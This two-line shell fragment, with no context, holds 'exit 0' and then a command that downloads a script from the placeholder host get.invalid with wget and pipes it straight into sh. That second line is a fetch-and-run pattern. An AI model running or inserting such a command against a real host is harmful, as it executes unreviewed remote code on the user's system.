exit 0
sh -c "$(wget -qO- https://get.invalid/run)"
